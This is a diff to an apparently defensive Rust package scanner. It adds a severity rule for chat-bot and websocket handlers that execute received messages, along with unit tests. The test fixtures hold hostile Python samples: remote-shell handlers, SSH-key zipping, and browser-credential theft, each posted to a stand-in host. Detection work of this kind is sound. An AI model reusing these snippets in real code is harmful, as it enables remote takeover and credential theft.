@@ -283,6 +283,13 @@ fn flow_severity(
                 0.2
             }
         }
+        // A bot or socket handler running what it is sent is a remote shell, started however
+        // late.
+        (SourceKind::Network, SinkKind::Process)
+            if source.label.starts_with(super::sources::HANDLER_MESSAGE) =>
+        {
+            0.8
+        }
         (SourceKind::Network, SinkKind::Process) => {
             if early {
                 0.85
@@ -332,6 +339,38 @@ mod tests {
         findings("p-1/sdk/credentials.py", code)
             .iter()
             .any(|f| f.tags.contains(&"silent-credential-send"))
+    }
+
+    #[test]
+    fn chat_bot_and_websocket_handlers_running_what_they_receive_are_remote_shells() {
+        let discord = "import subprocess, discord\nclient = discord.Client()\n@client.event\nasync def on_message(message):\n    subprocess.run(message.content, shell=True)\n";
+        assert!(max_severity("p-1/pkg/__init__.py", discord, "WH200") >= 0.8);
+        let socket = "import subprocess, websocket\ndef handle(ws, message):\n    ws.send(subprocess.getoutput(message))\ndef run():\n    websocket.WebSocketApp('wss://x.invalid', on_message=handle).run_forever()\n";
+        assert!(max_severity("p-1/pkg/__init__.py", socket, "WH200") >= 0.8);
+        // click and typer declare command-line commands with the same decorator name.
+        let cli = "import subprocess, typer\napp = typer.Typer()\n@app.command()\ndef run(cmd: str):\n    subprocess.run(cmd, shell=True)\n";
+        assert!(max_severity("p-1/pkg/cli.py", cli, "WH200") < 0.5);
+        // A bot running a fixed command for anyone who asks.
+        let status = "import subprocess\nfrom discord.ext import commands\nbot = commands.Bot(command_prefix='!')\n@bot.command()\nasync def uptime(ctx):\n    await ctx.send(subprocess.check_output(['uptime']).decode())\n";
+        assert!(max_severity("p-1/pkg/bot.py", status, "WH200") < 0.5);
+    }
+
+    #[test]
+    fn stores_packed_into_an_archive_are_in_the_archive_and_its_buffer() {
+        let zipped = "import io, os, zipfile, requests\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, 'w') as z:\n    z.write(os.path.expanduser('~/.ssh/id_rsa'))\nrequests.post('https://x.invalid/u', data=buf.getvalue())\n";
+        assert!(max_severity("p-1/pkg/__init__.py", zipped, "WH200") >= 0.85);
+        let docs = "import io, zipfile, requests\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, 'w') as z:\n    z.write('docs/index.html')\nrequests.post('https://x.invalid/u', data=buf.getvalue())\n";
+        assert!(max_severity("p-1/pkg/__init__.py", docs, "WH200") < 0.1);
+    }
+
+    #[test]
+    fn listed_or_tested_browser_file_names_name_the_store_they_are_joined_to() {
+        let listed = "import os, glob, requests\nfor prof in glob.glob(os.path.join(os.getenv('APPDATA', ''), 'Mozilla', 'Firefox', 'Profiles', '*')):\n    for name in ('logins.json', 'key4.db'):\n        requests.post('https://x.invalid/u', data=open(os.path.join(prof, name), 'rb').read())\n";
+        assert!(max_severity("p-1/pkg/__init__.py", listed, "WH200") >= 0.85);
+        let tested = "import os, requests\nfor root, _, files in os.walk(os.path.expanduser('~/.config/google-chrome/Default')):\n    for f in files:\n        if f in ('Cookies', 'Login Data'):\n            requests.post('https://x.invalid/u', data=open(os.path.join(root, f), 'rb').read())\n";
+        assert!(max_severity("p-1/pkg/__init__.py", tested, "WH200") >= 0.85);
+        let settings = "import os, requests\nfor name in ('settings.json', 'cookies'):\n    requests.post('https://x.invalid/u', data=open(os.path.join('conf', name)).read())\n";
+        assert!(max_severity("p-1/pkg/__init__.py", settings, "WH200") < 0.5);
     }
 
     #[test]
